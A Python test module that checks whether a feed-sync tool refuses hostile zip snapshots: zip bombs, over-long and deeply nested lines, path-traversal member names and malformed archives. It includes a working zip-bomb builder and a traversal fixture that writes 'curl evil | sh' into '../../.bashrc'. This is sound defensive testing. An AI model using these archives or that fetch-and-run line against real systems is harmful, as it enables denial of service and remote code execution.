"""Hostile snapshot archives, end to end against the real node: each ends in an error that says
what is wrong, memory stays bounded, and nothing reaches the live alias.

After every case the alias still points at the same physical index, whose documents still equal
the feed's truth at the recorded offset; the state keeps that offset and says `failed` with the
reason; no half-built `<alias>.v*` index and no downloaded file is left behind.

The archives that inflate to a lot (bombs, a 100 MB line, 100,000 nested brackets) go through the
real console script (`sync` fed by the local feed, or `import` from disk) as a subprocess whose own
peak RSS is measured (content_sync.testing.procmem): a GiB-sized bomb must not cost more than a
small fraction of it. The others run a cycle in-process, which is faster and shows the same paths.
"""

from __future__ import annotations

import itertools
import struct
import uuid
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
import yaml
from opensearchpy import OpenSearch

from content_sync.runtime import Runtime
from content_sync.settings import Settings
from content_sync.store import FeedState
from content_sync.testing.model import FeedModel, Snapshot
from content_sync.testing.server import FeedServer
from tests.helpers import FEED, indexed, settings_dict
from tests.reliability import TALLY
from tests.test_hostile_answers import MAX_RSS_MB, CliRun, compare_with_truth, run_cli

pytestmark = pytest.mark.reliability

MiB = 1024 * 1024
GiB = 1024 * MiB
MAX_SECONDS = 60  # a bomb must not turn into minutes of CPU either (a newline bomb once took 3)


# ------------------------------------------------------------------ building hostile archives


def good_line(n: int) -> bytes:
    return b'{"name": "CVE-%d", "offset": %d, "version": 1, "payload": {"a": %d}}\n' % (n, n, n)


def plain_zip(path: Path, members: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> Path:
    with zipfile.ZipFile(path, "w", compression=method) as zf:
        for name, data in members.items():
            zf.writestr(name, data)
    return path


def deflate_zip(
    path: Path,
    member: str,
    parts: list[tuple[bytes, int]],
    *,
    declared: int | None = None,
    trailing: bytes = b"",
    overstated: int = 0,
) -> Path:
    """A zip whose one member is `block * times` for each (block, times) of `parts`, in order,
    built in milliseconds whatever its inflated size: each block is deflated once, ending in a
    full flush (a segment that decodes on its own), and the segment is repeated. `declared`
    replaces the true inflated size in both headers (a lying bomb). `trailing` follows the
    deflate stream inside the member, and the headers state a compressed size `overstated`
    bytes larger than the member holds."""
    crc = size = 0
    segments: list[tuple[bytes, int]] = []
    for block, times in parts:
        squeeze = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
        segments.append((squeeze.compress(block) + squeeze.flush(zlib.Z_FULL_FLUSH), times))
        for _ in range(times):
            crc = zlib.crc32(block, crc)
        size += len(block) * times
    final = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS).flush()  # an empty last block
    compressed = sum(len(s) * t for s, t in segments) + len(final) + len(trailing) + overstated
    stated = size if declared is None else declared
    assert compressed < 4 * GiB and stated < 4 * GiB  # no ZIP64 needed
    name = member.encode()
    with path.open("wb") as out:
        out.write(
            struct.pack(
                "<4s5H3L2H", b"PK\x03\x04", 20, 0, 8, 0, 0, crc, compressed, stated, len(name), 0
            )
        )
        out.write(name)
        for segment, times in segments:
            for _ in range(times):
                out.write(segment)
        out.write(final)
        out.write(trailing)
        directory = out.tell()
        out.write(
            struct.pack(
                "<4s6H3L5H2L",
                *(b"PK\x01\x02", 20, 20, 0, 8, 0, 0, crc, compressed, stated),
                *(len(name), 0, 0, 0, 0, 0, 0),
            )
        )
        out.write(name)
        end = out.tell()
        out.write(struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 1, 1, end - directory, directory, 0))
    return path


def encrypted_zip(path: Path, member: str) -> Path:
    """A valid archive whose member claims to be encrypted (flag bit 0 in both headers)."""
    plain_zip(path, {member: good_line(1)})
    raw = bytearray(path.read_bytes())
    for magic, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        pos = raw.index(magic) + at
        raw[pos] |= 0x01
    path.write_bytes(bytes(raw))
    return path


def nested_json(depth: int) -> bytes:
    return (
        good_line(1)
        + b'{"name": "CVE-2", "offset": 2, "version": 1, "payload": {"x": '
        + b"[" * depth
        + b"]" * depth
        + b"}}\n"
    )


@dataclass(frozen=True)
class Case:
    build: Callable[[Path, str], Path]  # (directory, member name) -> archive
    match: str
    how: str = "cycle"  # cycle (in-process) | sync / import (the console script, RSS measured)
    env: dict[str, str] = field(default_factory=dict)


def _bomb(byte: bytes, *, declared: int | None = None) -> Callable[[Path, str], Path]:
    return lambda d, m: deflate_zip(d / "bomb.zip", m, [(byte * MiB, 1024)], declared=declared)


def _long_line(d: Path, member: str) -> Path:
    """A real resource line whose payload is one 100 MB string."""
    head = good_line(1) + b'{"name": "CVE-2", "offset": 2, "version": 1, "payload": {"blob": "'
    parts = [(head, 1), (b"A" * MiB, 100), (b'"}}\n', 1)]
    return deflate_zip(d / "line.zip", member, parts)


def _members(**members: bytes) -> Callable[[Path, str], Path]:
    def build(d: Path, member: str) -> Path:
        named = {name.replace("MEMBER", member): data for name, data in members.items()}
        return plain_zip(d / "members.zip", named)

    return build


def _content(data: bytes, method: int = zipfile.ZIP_DEFLATED) -> Callable[[Path, str], Path]:
    return lambda d, m: plain_zip(d / "content.zip", {m: data}, method)


def _zip_in_json(d: Path, member: str) -> Path:
    inner = plain_zip(d / "inner.zip", {member: good_line(1)}).read_bytes()
    return plain_zip(d / "outer.zip", {member: inner})


def _nested_zip(d: Path, member: str) -> Path:
    inner = plain_zip(d / "inner.zip", {member: good_line(1)}).read_bytes()
    return plain_zip(d / "outer.zip", {"inner.zip": inner})


def _page(d: Path, member: str) -> Path:
    """An error page where the archive should be (served as application/zip all the same)."""
    path = d / "page.zip"
    path.write_bytes(b"<html><body>Not Found</body></html>")
    return path


GARBAGE = bytes(itertools.islice(itertools.cycle(range(7, 256, 13)), 200_000))
PRETTY = b'[\n  {\n    "name": "CVE-1",\n    "offset": 1,\n    "payload": {}\n  }\n]\n'
LIMIT_256 = {"CONTENT_SYNC_SYNC__MAX_UNCOMPRESSED_BYTES": str(256 * MiB)}

CASES: dict[str, Case] = {
    # Bombs: 1 MB on disk, 1 GiB inflated. The understated one once took 9 GB and 2 minutes, the
    # endless line 1 GB, the blank lines 3 minutes of CPU.
    "bomb-over-the-limit": Case(
        _bomb(b" "),
        "declares 1073741824 bytes, over sync.max_uncompressed_bytes",
        "sync",
        LIMIT_256,
    ),
    "bomb-understating-its-size": Case(
        _bomb(b"\n", declared=1000), "inflates beyond the 1000 bytes its headers declare", "sync"
    ),
    "bomb-of-blank-lines": Case(_bomb(b"\n"), "more than 1000 blank lines", "sync"),
    "bomb-of-one-endless-line": Case(
        _bomb(b" "), "line 1 is longer than sync.max_line_bytes (67108864)", "sync"
    ),
    "line-of-100-MB": Case(_long_line, "line 2 is longer than sync.max_line_bytes", "sync"),
    "line-of-100-MB-imported": Case(
        _long_line, "line 2 is longer than sync.max_line_bytes", "import"
    ),
    "nested-100000-deep": Case(
        lambda d, m: plain_zip(d / "deep.zip", {m: nested_json(100_000)}),
        "line 2 is nested too deeply",
        "sync",
    ),
    # Deep but with few brackets (once unchecked below 2000): stored, it could not be decoded.
    "nested-1000-deep": Case(
        lambda d, m: plain_zip(d / "deep.zip", {m: nested_json(1000)}),
        "line 2 is nested too deeply",
    ),
    # Names and members.
    "path-traversal": Case(_members(**{"../MEMBER": good_line(1)}), "refusing member name '../"),
    "absolute-path": Case(_members(**{"/tmp/MEMBER": good_line(1)}), "refusing member name '/tmp"),
    "backslash-traversal": Case(_members(**{"..\\MEMBER": good_line(1)}), "refusing member name"),
    "hidden-file": Case(_members(**{".MEMBER": good_line(1)}), "refusing member name '."),
    "extra-member": Case(
        _members(MEMBER=good_line(1), **{"../../.bashrc": b"curl evil | sh\n"}),
        "expected exactly one member, found 2",
    ),
    "directory-and-member": Case(
        # Read as it downloads, the first entry is refused by its name; from a file on disk
        # (import), by the count of members. Both name it.
        _members(**{"dir/": b"", "dir/MEMBER": good_line(1)}),
        "dir/",
    ),
    "nested-zip": Case(_nested_zip, "member 'inner.zip' is not a .json file"),
    "zip-inside-the-json-member": Case(_zip_in_json, "line 1 is not valid JSON"),
    "encrypted-member": Case(lambda d, m: encrypted_zip(d / "enc.zip", m), "is encrypted"),
    "lzma-member": Case(_content(good_line(1), zipfile.ZIP_LZMA), "compression method 14"),
    # Members that are not JSON lines.
    "binary": Case(_content(GARBAGE), "line 1 is not valid JSON"),
    "json-array": Case(
        _content(b"[" + good_line(1).strip() + b", " + good_line(2).strip() + b"]\n"),
        "line 1 is not one JSON object",
    ),
    "pretty-printed-json": Case(_content(PRETTY), "line 1 is not valid JSON"),
    "plain-text": Case(_content(b"CVE-2024-0001 fixed in 1.2.3\n"), "line 1 is not valid JSON"),
    "no-resources": Case(_content(b""), "holds no resources"),
    "one-resource-twice": Case(
        _content(good_line(1) + good_line(2) + good_line(1)), "appears more than once"
    ),
    "not-a-zip": Case(_page, "not a readable zip archive"),
    # Sizes that lie the other way: the deflate stream ends, then 7 MB of junk, and the headers
    # claim 100 MB more. Read from disk, this once read on to the end of the file (copying the
    # junk gathered so far at every read) and said only that the member was truncated.
    "deflate-stream-ends-early-imported": Case(
        lambda d, m: deflate_zip(
            d / "early.zip", m, [(good_line(1), 1)], trailing=GARBAGE * 35, overstated=100 * MiB
        ),
        "does not end where the member does",
        "import",
    ),
}


# ------------------------------------------------------------------ the live feed


@dataclass
class Site:
    """One feed initialised by the real product, whose live content every case must leave be."""

    model: FeedModel
    server: FeedServer
    runtime: Runtime
    client: OpenSearch
    config: Path
    temp: Path
    good: Snapshot
    offset: int = 0
    index: str = ""
    baseline: dict[str, dict[str, Any]] = field(default_factory=dict)
    stamp: Iterator[int] = field(default_factory=lambda: itertools.count(2_000_000_000))

    @property
    def alias(self) -> str:
        return self.runtime.settings.feed(FEED).index

    def state(self) -> FeedState:
        state = self.runtime.store.peek_state(self.runtime.settings.feed(FEED).state_id)
        assert state is not None
        return state

    def publish(self, archive: Path) -> None:
        """Make `archive` the feed's current snapshot (at the offset the site is at)."""
        ts = next(self.stamp)
        name = f"{self.offset}_{ts}.zip"
        snap = Snapshot(
            name=name,
            member=member_name(self.offset),
            path=archive,
            offset=self.offset,
            ts=ts,
            published_at="2026-11-22T00:00:00.000000Z",
            lines=0,
            member_size=archive.stat().st_size,
        )
        self.model.snapshots[name] = snap
        self.model.snapshot = snap


def member_name(offset: int) -> str:
    return f"vd_1.0.0_vd_4.8.0_{offset}_1763769600.json"


@pytest.fixture(scope="module")
def site(
    _feed_model_template: FeedModel,
    tmp_path_factory: pytest.TempPathFactory,
    opensearch_url: str,
    os_client: OpenSearch,
) -> Iterator[Site]:
    root = tmp_path_factory.mktemp("hostile-archives")
    model = _feed_model_template.clone(root / "feed")
    prefix = f"t-{uuid.uuid4().hex[:10]}"
    temp = root / "tmp"
    temp.mkdir()
    with FeedServer(model) as server:
        data = settings_dict(server, opensearch_url, prefix, temp)
        data["command_manager"]["enabled"] = False
        data["retry"] = {"attempts": 2, "initial": 0.01, "max_wait": 0.05, "budget": 5}
        config = root / "settings.yaml"
        config.write_text(yaml.safe_dump(data), encoding="utf-8")
        runtime = Runtime(Settings.model_validate(data))
        assert model.snapshot is not None
        here = Site(model, server, runtime, os_client, config, temp, model.snapshot)
        try:
            assert runtime.feed_sync(FEED).run_cycle().outcome == "ok"
            state = here.state()
            assert state.index is not None
            here.offset, here.index = state.local_offset, state.index
            compare_with_truth(os_client, here.alias, model, here.offset)
            here.baseline = indexed(os_client, here.alias)
            yield here
        finally:
            runtime.close()
            os_client.indices.delete(
                index=f"{prefix}*", ignore_unavailable=True, expand_wildcards="all"
            )
            model.close()


@pytest.mark.parametrize("name", list(CASES))
def test_hostile_archive_is_refused_and_changes_nothing(
    site: Site, name: str, tmp_path: Path
) -> None:
    case = CASES[name]
    archive = case.build(tmp_path, member_name(site.offset))
    assert archive.stat().st_size < 8 * MiB  # small on disk, whatever it inflates to
    TALLY["hostile inputs tried"] += 1
    try:
        if case.how == "cycle":
            site.publish(archive)
            result = site.runtime.feed_sync(FEED).run_cycle(resync=True)
            assert result.outcome == "failed", result.summary()
            assert case.match in (result.error or ""), result.error
        else:
            run = _run(site, case, archive, tmp_path)
            assert run.code == 1, run.stdout + run.stderr
            assert case.match in run.stderr, run.stderr[-3000:]
            if case.how == "import":
                assert "import refused, nothing changed" in run.stderr
            assert run.peak_mb < MAX_RSS_MB, f"peak RSS {run.peak_mb:.0f} MB"
            assert run.seconds < MAX_SECONDS, f"took {run.seconds:.0f} s"
    finally:
        site.model.snapshot = site.good
    assert_untouched(site, case.match)


def _run(site: Site, case: Case, archive: Path, workdir: Path) -> CliRun:
    config = str(site.config)
    if case.how == "sync":
        site.publish(archive)
        return run_cli("sync", "--resync", "--config", config, workdir=workdir, env=case.env)
    args = ("import", "--feed", FEED, str(archive), "--offset", str(site.offset))
    return run_cli(*args, "--config", config, workdir=workdir, env=case.env)


def assert_untouched(site: Site, match: str) -> None:
    state = site.state()
    assert state.status == "failed"
    assert state.last_error and match in state.last_error, state.last_error
    assert (state.local_offset, state.index) == (site.offset, site.index)
    assert list(site.client.indices.get_alias(name=site.alias)) == [site.index]
    assert sorted(site.client.indices.get(index=f"{site.alias}.v*")) == [site.index]
    assert list(site.temp.iterdir()) == []
    # The live documents are still those that equalled the truth at this offset.
    now = indexed(site.client, site.alias)
    TALLY["documents compared"] += len(now)
    differ = {n for n in now.keys() | site.baseline.keys() if now.get(n) != site.baseline.get(n)}
    if differ:
        TALLY["lost/duplicated/corrupted"] += len(differ)
    assert not differ, sorted(differ)[:10]


def test_the_site_still_syncs_after_the_hostile_archives(site: Site) -> None:
    """The good snapshot back: a clean re-initialisation works and reaches the truth."""
    site.model.snapshot = site.good
    result = site.runtime.feed_sync(FEED).run_cycle(resync=True)
    assert result.outcome == "ok", result.error
    compare_with_truth(site.client, site.alias, site.model, site.model.head_offset)
